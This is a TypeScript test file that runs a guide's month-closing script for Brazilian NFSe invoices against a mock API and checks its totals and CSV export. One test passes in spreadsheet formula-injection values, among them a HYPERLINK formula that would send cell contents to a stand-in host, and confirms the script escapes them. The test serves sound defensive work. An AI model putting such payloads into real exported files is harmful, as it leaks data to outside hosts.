import { execFile } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, expect, it } from 'vitest';
import { type LocalServer, openLocalServer } from '../support/harness/local-server.js';
import { temporaryFolder } from '../support/temporary-folder.js';
import { readPage } from '../tools/documents/pages.js';

let api: LocalServer | undefined;
afterEach(() => api?.close());

const note = (status: string, more: object = {}) => ({
  object: 'nfse',
  livemode: true,
  status,
  amount_in_cents: 1_000,
  competence: '2026-11-30',
  access_key: '3'.repeat(50),
  ...more,
});
const XML = '<NFSe><infNFSe><nNFSe>7</nNFSe><vServ>10.00</vServ></infNFSe></NFSe>';
const refusal = (code: string) => ({ error: { code, message: 'Recusado.', retryable: false } });

/** What mes.mjs of the guide says and writes of these notes: the path of each is its id, with `/xml` that of its document. */
const closed = async (answers: Readonly<Record<string, string | object>>) => {
  api = await openLocalServer(async ({ url = '' }, response) => {
    const answer = answers[url.replace('/v1/nfse/', '')] ?? refusal('nfse.not_issued');
    response.writeHead(typeof answer === 'object' && 'error' in answer ? 409 : 200);
    response.end(typeof answer === 'string' ? answer : JSON.stringify(answer));
  });
  const folder = temporaryFolder();
  const [, program = ''] = /<<'FIM'\n([\s\S]*?)\nFIM\n/.exec(readPage('docs/guia/fechar-o-mes.md')) ?? [];
  await writeFile(join(folder, 'mes.mjs'), program);
  await writeFile(
    join(folder, 'ids.txt'),
    Object.keys(answers)
      .filter((id) => !id.includes('/'))
      .join('\n'),
  );
  const env = { ...process.env, API: api.url, KEY: 'svc_sk_live_any' };
  const run = promisify(execFile)(process.execPath, ['mes.mjs', 'ids.txt', '2026-11'], { cwd: folder, env });
  const { stdout } = await run;
  const rows = (await readFile(join(folder, 'mes.csv'), 'utf8')).trim().split('\r\n').slice(1);
  return { said: stdout.trim().split('\n'), rows };
};

it('mes.mjs of the guide counts what is issued and canceled, and names what may still change the month', async () => {
  const { said, rows } = await closed({
    issued: note('issued'),
    'issued/xml': XML,
    canceled: note('canceled'),
    'canceled/xml': XML,
    open: note('queued', { access_key: undefined }),
    new: note('a_new_status'),
    'new/xml': XML,
  });
  expect(said).toEqual(['emitidas: 1, R$ 10,00; canceladas: 1; a resolver: 2', 'open: queued', 'new: a_new_status']);
  expect(rows.map((row) => row.split(';').at(-2))).toEqual(['"issued"', '"canceled"', '"a_new_status"']);
});

it('mes.mjs of the guide names a note whose XML is not there, but for a canceled one of test mode', async () => {
  const { said } = await closed({
    issued: note('issued'),
    canceled: note('canceled'),
    test: note('canceled', { livemode: false }),
  });
  const named = ['issued', 'canceled'].map((id) => `${id}: sem XML; veja a nota no portal nacional`);
  expect(said).toEqual(['emitidas: 1, R$ 10,00; canceladas: 2; a resolver: 2', ...named]);
});

it('mes.mjs of the guide writes no reference that a spreadsheet calculates', async () => {
  const references = ['=HYPERLINK("http://x.example/"&C2)', '@SUM(1)', '+1', '-1+1', '＝1', 'pedido-1001', '"=1;2"'];
  const answers = references.flatMap((reference, at) => [
    [`n${at}`, note('issued', { reference })] as const,
    [`n${at}/xml`, XML] as const,
  ]);
  const { rows } = await closed(Object.fromEntries(answers));
  const cells = rows.map((row) => row.replace(/^.*"issued";/, ''));
  expect(cells).toEqual([
    '"=""=HYPERLINK(""""http://x.example/""""&C2)"""',
    '"=""@SUM(1)"""',
    '"=""+1"""',
    '"=""-1+1"""',
    '"=""＝1"""',
    '"pedido-1001"',
    '"""=1;2"""',
  ]);
  expect(rows[0]).toContain(`"=""${'3'.repeat(50)}"""`);
});
